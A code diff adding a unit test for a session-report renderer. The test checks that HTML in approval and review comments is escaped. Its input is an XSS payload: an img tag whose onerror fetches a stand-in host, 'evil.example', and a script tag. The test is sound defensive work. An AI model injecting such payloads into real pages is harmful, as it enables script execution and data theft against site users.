@@ -105,4 +105,19 @@ describe('renderSessionReport', () => {
     expect(markdown).toContain('````diff\n+```\n+a | b\n+```\n````');
     expect(markdown).toContain('| a \\| b |');
   });
+
+  it("turns HTML in people's comments and reasons into text: a rendered report runs no markup", () => {
+    const hostile = '<img src=x onerror="fetch(`//evil.example`)"><script>alert(1)</script> & more';
+    const input: ReportInput = {
+      ...troubledSession,
+      approvals: troubledSession.approvals.map((approval) =>
+        approval.comment ? { ...approval, comment: hostile } : approval,
+      ),
+      reviews: troubledSession.reviews.map((review) => ({ ...review, comments: review.comments.map(() => hostile) })),
+    };
+    const markdown = render(input);
+    expect(markdown).toContain('&lt;img src=x onerror=');
+    expect(markdown).toContain('&lt;script&gt;alert(1)&lt;/script&gt; &amp; more');
+    expect(markdown).not.toMatch(/<img|<script/i);
+  });
 });
